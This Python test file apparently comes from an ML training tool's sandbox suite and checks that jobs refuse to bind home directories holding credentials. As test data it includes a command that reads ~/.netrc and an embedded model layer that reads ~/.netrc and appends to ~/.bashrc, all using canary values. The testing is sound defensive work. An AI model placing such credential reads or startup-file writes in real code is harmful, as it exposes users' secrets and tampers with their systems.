                                  memory_mb=2048, sandbox=kind).elapsed_s for _ in range(10)]
        print(f"python -c pass in {kind}: median {median(runs) * 1000:.0f} ms")


if __name__ == "__main__":
    bench()


def test_lm_eval_inputs_are_bound_read_only_into_the_job(tmp_path):
    """The task YAMLs (train.lm_eval_include) and the HF hub cache (cluster.hf_cache, only when lm-eval tasks are
    asked for) are read-only binds of the job's sandbox; the job's env points lm-eval's datasets at them."""
    from asiarch.dispatch.attempt import HF_DATASETS_TMP, write_attempt_files

    (tmp_path / "tasks").mkdir()
    (tmp_path / "hub").mkdir()
    layer = tmp_path / "layer.py"
    layer.write_text("x = 1\n")
    cluster = ClusterConfig(sandbox="bwrap" if BWRAP else "none", hf_cache=str(tmp_path / "hub"))
    ident = {"experiment": "t", "candidate_id": 1, "attempt": 1, "run_key": "t-c00001-a1", "code_sha256": "x"}
    for tasks, bound in ((["piqa"], True), ([], False)):
        train = TrainConfig(task="lm", data=str(tmp_path / "data"), lm_eval_tasks=tasks,
                            lm_eval_include=str(tmp_path / "tasks"))
        paths = AttemptFiles(tmp_path / f"a{len(tasks)}")
        req = write_attempt_files(paths, layer_path=layer, identity=ident, train=train, cluster=cluster,
                                  class_name="DeltaNet", python=sys.executable)
        script = req.script.read_text()
        assert (f"HF_HUB_CACHE={tmp_path / 'hub'}" in script) is bound
        assert (HF_DATASETS_TMP in script) is bound
        if BWRAP:
            assert f"--ro-bind-try {tmp_path / 'tasks'} {tmp_path / 'tasks'}" in script
            assert (f"--ro-bind-try {tmp_path / 'hub'} {tmp_path / 'hub'}" in script) is bound


@pytest.fixture
def home_with_data(tmp_path, monkeypatch):
    """A home directory (HOME) holding a credential and, loose in it, a token file."""
    home = tmp_path / "home"
    home.mkdir()
    (home / ".netrc").write_text("machine example.org password CANARY-NETRC\n")
    (home / "tokens.bin").write_bytes(b"\0" * 64)
    monkeypatch.setenv("HOME", str(home))
    return home


@needs_bwrap
def test_data_that_would_bind_a_home_is_refused(home_with_data, tmp_path):
    """A token file loose in the home directory: its directory is bound whole, and the job's candidate
    code reads ~/.netrc there (shown with the check off: the bind the old code made). data_binds refuses it,
    so neither the head nor `asiarch train` starts such a job; a directory of its own is fine."""
    home = home_with_data
    spec = sb.SandboxSpec(kind="bwrap", cwd=str(tmp_path), read_only=sb.interpreter_paths() + (str(home),))
    leaked = subprocess.run(sb.bwrap_argv(spec, ["cat", str(home / ".netrc")]), capture_output=True, text=True)
    assert "CANARY-NETRC" in leaked.stdout, leaked.stderr  # the attack, without the check
    with pytest.raises(sb.SandboxUnavailable, match=r"train.token_file's directory is .*home directory"):
        sb.data_binds(TrainConfig(task="lm", token_file=str(home / "tokens.bin")), ClusterConfig())
    own = home / "data"
    own.mkdir()
    assert sb.data_binds(TrainConfig(task="lm", data=str(own)), ClusterConfig()) == [str(own.resolve())]
    # what a user sees: asiarch train refuses in one line, before any job starts
    layer = LAYERS / "good_plain.py"
    res = subprocess.run([sys.executable, "-m", "asiarch", "train", str(layer), "--out", str(tmp_path / "r.h5"),
                          "--task", "lm", "--token-file", str(home / "tokens.bin"), "--steps", "1"],
                         capture_output=True, text=True, env={**os.environ, "HOME": str(home)}, cwd=ROOT)
    assert res.returncode == 2 and "home directory" in res.stderr and "Traceback" not in res.stderr, res.stderr
    assert not (tmp_path / "r.h5").exists()


def test_an_hf_cache_holding_a_token_is_refused(tmp_path):
    """`huggingface-cli login` writes the token beside hub/: pointing cluster.hf_cache at that home would
    bind the token into every lm-eval job. Only when lm-eval tasks run is the cache bound at all."""
    hf = tmp_path / "huggingface"
    (hf / "hub").mkdir(parents=True)
    (hf / "token").write_text("hf_CANARY\n")
    train = TrainConfig(task="lm", data=str(tmp_path), lm_eval_tasks=["piqa"])
    with pytest.raises(sb.SandboxUnavailable, match=r"holds a Hugging Face token \(token\).*hub"):
        sb.data_binds(train, ClusterConfig(hf_cache=str(hf)))
    assert str((hf / "hub").resolve()) in sb.data_binds(train, ClusterConfig(hf_cache=str(hf / "hub")))
    assert sb.data_binds(TrainConfig(task="lm", data=str(tmp_path)), ClusterConfig(hf_cache=str(hf))) == \
        [str(tmp_path.resolve())]


def test_config_paths_expand_the_home(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    cfg = from_dict({"cluster": {"hf_cache": "~/hub"}}, base=tmp_path / "exp")
    assert cfg.cluster.hf_cache == str(tmp_path / "hub")


@needs_bwrap
def test_the_head_refuses_to_start_on_data_that_would_bind_a_home(home_with_data, tmp_path, capsys):
    """`asiarch run` with train.token_file loose in the home directory stops before any job, saying what to move."""
    from asiarch.cli import main

    exp = tmp_path / "exp"
    exp.mkdir()
    (exp / "config.toml").write_text('[train]\ntask = "lm"\ntoken_file = "~/tokens.bin"\nseq_len = 32\n'
                                     '[cluster]\nsandbox = "bwrap"\n')
    capsys.readouterr()
    assert main(["run", str(exp), "--quiet"]) != 0
    err = capsys.readouterr().err
    assert "train.token_file's directory" in err and "home directory" in err, err
    assert not list(exp.glob("**/attempt-*"))


TRAIN_LAYER = '''
import torch
from torch import nn

TARGETS = {targets}
found = []
try:
    found.append(open(TARGETS["canary"]).read())
except OSError as exc:
    found.append(repr(exc))
try:
    open(TARGETS["write"], "a").write("planted by the layer")
except OSError:
    pass
print("layer saw:", found, flush=True)

class DeltaNet(nn.Module):
    def __init__(self, hidden_size=64, num_heads=2, layer_idx=None, **kwargs):
        super().__init__()
        self.proj = nn.Linear(hidden_size, hidden_size)
    def forward(self, hidden_states, **kwargs):
        T = hidden_states.shape[1]
        return torch.cumsum(self.proj(hidden_states), 1) / torch.arange(1, T + 1).view(1, T, 1)
'''


@pytest.mark.slow
@needs_bwrap
def test_asiarch_train_with_its_result_in_a_home_binds_only_a_directory_of_its_own(tmp_path, capsys):
    """`asiarch train --out ~/r.h5` (a red team's find): the job's files and checkpoint went beside the result and
    the sandbox bound that directory, the home, writable: the layer read ~/.netrc and appended to ~/.bashrc. Now
    the job writes only a fresh directory of its own there (a real 1-rank job in bubblewrap)."""
    from asiarch.cli.main import main

    home = tmp_path / "home"
    home.mkdir()
    (home / ".netrc").write_text("machine example.org password canary-netrc-3141\n")
    (home / ".bashrc").write_text("# the user's\n")
    layer = tmp_path / "layer.py"
    layer.write_text(TRAIN_LAYER.replace("{targets}", repr({"canary": str(home / ".netrc"),
                                                            "write": str(home / ".bashrc")})))
    assert main(["train", str(layer), "--out", str(home / "r.h5"), "--steps", "2", "--nproc", "1"]) == 0
    out = capsys.readouterr().out
    assert (home / ".bashrc").read_text() == "# the user's\n"
    (job_dir,) = home.glob("asiarch-train-*")
    log = (job_dir / "attempt-1" / "job.log").read_text()
    assert "layer saw:" in log and "canary-netrc-3141" not in log + out
    script = (job_dir / "attempt-1" / "job.sh").read_text()
    assert f"--bind {home} " not in script and f"--bind {home}\n" not in script  # the home itself is never bound
    assert str(job_dir / "checkpoints") in script
